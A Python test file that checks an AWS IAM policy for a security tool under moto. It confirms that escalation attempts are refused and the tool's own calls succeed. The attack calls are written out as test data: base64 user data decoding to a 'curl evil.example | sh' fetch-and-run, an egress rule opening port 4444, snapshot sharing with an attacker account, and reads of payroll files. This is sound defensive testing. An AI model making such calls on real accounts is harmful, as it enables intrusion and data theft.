"""Issue 22's escalation paths (item 4) and its foreign SSM document (item 1), each made as
a real boto3 call by Firebreak's principal under moto's IAM enforcement and the shipped
policy: the attack is refused with AccessDenied, and the call Firebreak itself makes beside
it (the `legitimate` half of test_policy_static.PATHS) succeeds.

moto alone ignores conditions and checks EC2 calls against "*", so most of these refusals
rest on tests/support/moto_conditions.py, which decides the calls of its table again with
the conditions IAM reads (tests/support/iam_policy.decide, the deployed policy, the ARNs
and keys read from the request and from moto's state). test_moto_alone_lets_the_condition_paths_through
shows that without it they pass.

Modelled, not real: an image or snapshot "of another account" is one moto holds in the
deploying account with its owner_id set to the attacker's account (moto 5.2 launches only
images its own account's backend holds; AWS launches a shared or public image by its id,
and IAM reads that image's owner as ec2:Owner).

Not expressible as a refused call, because IAM cannot refuse them (iam/README.md):
- 4a, moving an ENI into the pass-through group (ec2:ModifyNetworkInterfaceAttribute has no
  condition tying the groups to the interface): allowed by the policy. What IS refused on
  that path is opening any group but the pass-through, so the group it would be moved to
  allows nothing at rest (test_iam_policy.test_the_pass_through_group_allows_nothing_once_an_isolation_is_done).
- 4c, elasticloadbalancing:RegisterTargets and autoscaling:AttachInstances of an
  attacker's instance: IAM has no condition on the instance registered. What IS refused is
  launching that instance from an attacker's image, or registering an image from an
  attacker's snapshot (below)."""

from __future__ import annotations

import boto3
import pytest
from botocore.exceptions import ClientError
from moto.core import enable_iam_authentication
from moto.core.authorization import disable_iam_authentication

from aws.sessions import new_session
from tests.aws.actions.test_evidence_actions import memory_document
from tests.aws.actions.test_iam_policy import (ACCOUNT, FORENSICS, LOG_ARCHIVE, POLICY, as_moto_reads_it,
                                               document_is_the_resource, responder)
from tests.aws.actions.test_policy_static import ATTACKER, PATHS
from tests.support.containment import instance
from tests.support.moto_conditions import READERS, condition_aware

assert document_is_the_resource  # moto checks SendCommand against the document (autouse fixture)

BOT = f"arn:aws:iam::{ACCOUNT}:user/firebreak"
REGION = "us-east-1"
REPLACEMENT = [{"Key": "firebreak:managed", "Value": "replacement"}, {"Key": "firebreak:incident", "Value": "7"}]
ALL_TRAFFIC = [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]


def ec2():
    return boto3.client("ec2", region_name=REGION)


def tagged(key, value):
    return [{"ResourceType": "security-group", "Tags": [{"Key": key, "Value": value}]}]


def owned_by(owner, image=None, snapshot=None):
    """moto cannot hold another account's image or snapshot in this account: set its owner."""
    from moto.ec2.models import ec2_backends
    backend = ec2_backends[ACCOUNT][REGION]
    (backend.amis[image] if image else backend.snapshots[snapshot]).owner_id = owner


def estate() -> dict:
    """Made with authentication off: what the paths act on."""
    instance_id, vpc, subnet, groups = instance()
    client = ec2()
    isolation = client.create_security_group(GroupName="firebreak-isolation", Description="f", VpcId=vpc,
                                             TagSpecifications=tagged("firebreak:managed", "isolation"))["GroupId"]
    pass_through = client.create_security_group(
        GroupName="firebreak-isolation-pass-through", Description="f", VpcId=vpc,
        TagSpecifications=tagged("firebreak:managed", "pass-through"))["GroupId"]
    own_image = client.create_image(InstanceId=instance_id, Name="web-golden")["ImageId"]
    attacker_image = client.create_image(InstanceId=instance_id, Name="web-golden-2")["ImageId"]
    owned_by(ATTACKER, image=attacker_image)
    volume = client.describe_volumes(Filters=[{"Name": "attachment.instance-id", "Values": [instance_id]}]
                                     )["Volumes"][0]["VolumeId"]
    own_snapshot, attacker_snapshot = (client.create_snapshot(VolumeId=volume)["SnapshotId"] for _ in range(2))
    owned_by(ATTACKER, snapshot=attacker_snapshot)
    acls = {}
    for name, tags in (("prod", []), ("blocked", [{"Key": "firebreak:block-ip", "Value": "firebreak"}])):
        acl = client.create_network_acl(VpcId=vpc, TagSpecifications=[{"ResourceType": "network-acl", "Tags": tags}]
                                        if tags else [])["NetworkAcl"]["NetworkAclId"]
        client.create_network_acl_entry(NetworkAclId=acl, RuleNumber=100, Protocol="-1", RuleAction="deny",
                                        Egress=False, CidrBlock="203.0.113.9/32")
        acls[name] = acl
    s3 = boto3.client("s3", region_name=REGION)
    for bucket in ("payroll-exports-logs", LOG_ARCHIVE):
        s3.create_bucket(Bucket=bucket)
        s3.put_object(Bucket=bucket, Key="2026/salaries.csv", Body=b"alice,100000")
    return {"instance": instance_id, "subnet": subnet, "production": groups[0], "isolation": isolation,
            "pass_through": pass_through, "own_image": own_image, "attacker_image": attacker_image,
            "own_snapshot": own_snapshot, "attacker_snapshot": attacker_snapshot, "acls": acls,
            "volume": volume, "document": memory_document()}


def _launch(image, e):
    return lambda c: c["ec2"].run_instances(ImageId=image, MinCount=1, MaxCount=1, SubnetId=e["subnet"],
                                            InstanceType="t3.micro",
                                            TagSpecifications=[{"ResourceType": "instance", "Tags": REPLACEMENT}])


def _register(snapshot):
    return lambda c: c["ec2"].register_image(
        Name=f"replacement-{snapshot}", RootDeviceName="/dev/xvda", BlockDeviceMappings=[
            {"DeviceName": "/dev/xvda", "Ebs": {"SnapshotId": snapshot}}],
        TagSpecifications=[{"ResourceType": "image", "Tags": REPLACEMENT}])


def _share(account):
    def share(c):
        # The bot tags the snapshot itself: CreateSnapshot with a firebreak:incident of its choosing is allowed.
        snapshot = c["ec2"].create_snapshot(VolumeId=c["estate"]["volume"], TagSpecifications=[
            {"ResourceType": "snapshot", "Tags": [{"Key": "firebreak:incident", "Value": "7"}]}])["SnapshotId"]
        return c["ec2"].modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission",
                                                  OperationType="add", UserIds=[account])
    return share


def _send(document):
    return lambda c: c["ssm"].send_command(InstanceIds=[c["estate"]["instance"]], DocumentName=document)


def _delete_entry(acl):
    return lambda c: c["ec2"].delete_network_acl_entry(NetworkAclId=c["estate"]["acls"][acl], RuleNumber=100,
                                                       Egress=False)


def _instance_attribute(**change):
    return lambda c: c["ec2"].modify_instance_attribute(InstanceId=c["estate"]["instance"], **change)


def _get(bucket):
    return lambda c: c["s3"].get_object(Bucket=bucket, Key="2026/salaries.csv")["Body"].read()


# Each path of test_policy_static.PATHS as (attack, legitimate call beside it), real calls.
CALLS = {
    "1 a firebreak-* SSM document shared from another account": (
        _send(f"arn:aws:ssm:{REGION}:{ATTACKER}:document/firebreak-CollectMemory"), _send("firebreak-CollectMemory")),
    "4a opening a group other than the pass-through (the isolation group)": (
        lambda c: c["ec2"].authorize_security_group_ingress(GroupId=c["estate"]["isolation"],
                                                            IpPermissions=ALL_TRAFFIC),
        lambda c: c["ec2"].authorize_security_group_ingress(GroupId=c["estate"]["pass_through"],
                                                            IpPermissions=ALL_TRAFFIC)),
    "4a opening a production group": (
        lambda c: c["ec2"].authorize_security_group_egress(
            GroupId=c["estate"]["production"],
            IpPermissions=[{"IpProtocol": "tcp", "FromPort": 4444, "ToPort": 4444,
                            "IpRanges": [{"CidrIp": "198.51.100.7/32"}]}]),
        lambda c: c["ec2"].revoke_security_group_egress(GroupId=c["estate"]["isolation"], IpPermissions=ALL_TRAFFIC)),
    "4b user data through ModifyInstanceAttribute": (
        _instance_attribute(UserData={"Value": b"IyEvYmluL3NoCmN1cmwgZXZpbC5leGFtcGxlIHwgc2g="}),
        _instance_attribute(DisableApiTermination={"Value": True})),
    "4b security groups through ModifyInstanceAttribute": (
        lambda c: c["ec2"].modify_instance_attribute(InstanceId=c["estate"]["instance"],
                                                     Groups=[c["estate"]["pass_through"]]), None),
    "4b block devices through ModifyInstanceAttribute": (
        _instance_attribute(BlockDeviceMappings=[{"DeviceName": "/dev/sda1", "Ebs": {"DeleteOnTermination": True}}]),
        None),
    "4c a replacement launched from an attacker's image": (
        lambda c: _launch(c["estate"]["attacker_image"], c["estate"])(c),
        lambda c: _launch(c["estate"]["own_image"], c["estate"])(c)),
    "4c a replacement image registered from an attacker's snapshot": (
        lambda c: _register(c["estate"]["attacker_snapshot"])(c),
        lambda c: _register(c["estate"]["own_snapshot"])(c)),
    "4d a self-tagged snapshot shared with any account": (_share(ATTACKER), _share(FORENSICS)),
    "4e objects of any bucket whose name contains logs": (_get("payroll-exports-logs"), _get(LOG_ARCHIVE)),
    "20d deleting entries of a network ACL Firebreak never blocked in": (_delete_entry("prod"),
                                                                          _delete_entry("blocked")),
}


def refused(call, clients, action):
    with pytest.raises(ClientError) as caught:
        call(clients)
    error = caught.value.response["Error"]
    # moto 5.2 answers a refusal of a JSON-protocol call (SSM) with IAM's XML body, so
    # botocore reports the HTTP status as the code; the body names AccessDenied.
    assert error["Code"] in ("AccessDenied", "403") and "AccessDenied" in str(error), error
    assert action in str(error) or action.startswith("s3:"), error  # S3 says only "Access Denied", as AWS does


def as_the_bot(monkeypatch, hook=True):
    with disable_iam_authentication():
        made = estate()
        responder("firebreak", as_moto_reads_it(POLICY), monkeypatch)
    seen = []
    if hook:
        condition_aware(monkeypatch, {BOT: POLICY}, seen)
    session = new_session()  # the bot's key, from the environment
    return {"estate": made, "seen": seen, "ec2": session.client("ec2", region_name=REGION),
            "ssm": session.client("ssm", region_name=REGION), "s3": session.client("s3", region_name=REGION)}


def test_every_path_of_issue_22_is_made_as_a_call_here():
    assert set(CALLS) == set(PATHS)


@pytest.mark.parametrize("path", sorted(PATHS))
def test_the_attack_is_refused_and_the_call_firebreak_makes_succeeds(path, moto_inprocess, monkeypatch):
    clients = as_the_bot(monkeypatch)
    (action, _), _ = PATHS[path]
    attack, legitimate = CALLS[path]
    with enable_iam_authentication():
        refused(attack, clients, action)
        read = [resources for a, resources, _ in clients["seen"] if a == action]
        if legitimate:
            legitimate(clients)  # raises if refused
    # The hook read the real call as test_policy_static.PATHS models it: the same kinds of
    # resource, with (at least) the same condition keys. Where moto refuses first, the
    # hook never sees the attack; its reading of the legitimate call is compared instead.
    if path in MOTO_REFUSES:
        assert not read, "moto refuses this itself"
        read, modelled = [r for a, r, _ in clients["seen"] if a == action], PATHS[path][1][1]
    else:
        modelled = PATHS[path][0][1]
    assert read, f"{action} was not read with conditions"
    assert _kinds(modelled) <= _kinds(read[0]), "the call names other resources than PATHS models"
    assert _keys(modelled) <= _keys(read[0]), "the call was read with other keys than PATHS models"


def _kinds(resources: dict) -> set[str]:
    """Service and resource type of each ARN (S3's ARNs have no type: object or bucket)."""
    return {("s3:object" if "/" in arn else "s3:bucket") if arn.startswith("arn:aws:s3:::")
            else f"{arn.split(':')[2]}:{arn.split(':')[5].split('/')[0]}" for arn in resources}


def _keys(resources: dict) -> set[tuple[str, str]]:
    """Every condition key and value the resources of a request carry."""
    return {(k, str(sorted(v) if isinstance(v, list) else v)) for keys in resources.values() for k, v in keys.items()}


def test_an_attack_with_the_forensics_account_beside_the_attacker_is_refused(moto_inprocess, monkeypatch):
    """4d: adding the forensics account and the attacker's in one call is still a share
    with the attacker (each added account is decided on its own), and no snapshot is ever
    made public (the Deny on ec2:Add/group all)."""
    clients = as_the_bot(monkeypatch)
    with enable_iam_authentication():
        snapshot = clients["ec2"].create_snapshot(VolumeId=clients["estate"]["volume"], TagSpecifications=[
            {"ResourceType": "snapshot", "Tags": [{"Key": "firebreak:incident", "Value": "7"}]}])["SnapshotId"]
        for change in ({"UserIds": [FORENSICS, ATTACKER]}, {"GroupNames": ["all"]}):
            refused(lambda c: c["ec2"].modify_snapshot_attribute(
                SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", **change),
                clients, "ec2:ModifySnapshotAttribute")
    shared = ec2().describe_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission")
    assert shared["CreateVolumePermissions"] == []


def test_user_data_stays_as_it_was(moto_inprocess, monkeypatch):
    """4b as the user would notice it: after the refused call the instance's user data is
    unchanged (none), so nothing runs at its next boot."""
    clients = as_the_bot(monkeypatch)
    with enable_iam_authentication():
        refused(CALLS["4b user data through ModifyInstanceAttribute"][0], clients, "ec2:ModifyInstanceAttribute")
    found = ec2().describe_instance_attribute(InstanceId=clients["estate"]["instance"], Attribute="userData")
    assert not found.get("UserData", {}).get("Value")


# moto refuses these two itself (it checks S3 objects, and SendCommand's document with the
# fixture of test_iam_policy.py); every other attack needs the conditions.
MOTO_REFUSES = {"1 a firebreak-* SSM document shared from another account",
                "4e objects of any bucket whose name contains logs"}


def test_moto_alone_lets_the_condition_paths_through(moto_inprocess, monkeypatch):
    """Without tests/support/moto_conditions.py the same attacks succeed under moto: the
    refusals above are the conditions' doing, read by the hook."""
    clients = as_the_bot(monkeypatch, hook=False)
    with enable_iam_authentication():
        for path in sorted(set(PATHS) - MOTO_REFUSES):
            CALLS[path][0](clients)  # raises if refused
        for path in sorted(MOTO_REFUSES):
            refused(CALLS[path][0], clients, PATHS[path][0][0])


def test_the_table_reads_every_action_of_the_paths():
    assert {attack[0] for attack, _ in PATHS.values()} <= set(READERS)
    assert all("service-authorization" in r.reference for r in READERS.values())


def test_a_call_the_table_cannot_read_is_an_error_not_an_allow(moto_inprocess, monkeypatch):
    """SendCommand by Targets names no instance the hook can read: it fails loudly rather
    than being decided on a guess."""
    clients = as_the_bot(monkeypatch)
    with enable_iam_authentication(), pytest.raises(ValueError, match="Targets"):
        clients["ssm"].send_command(Targets=[{"Key": "tag:Name", "Values": ["web-1"]}],
                                    DocumentName="firebreak-CollectMemory")
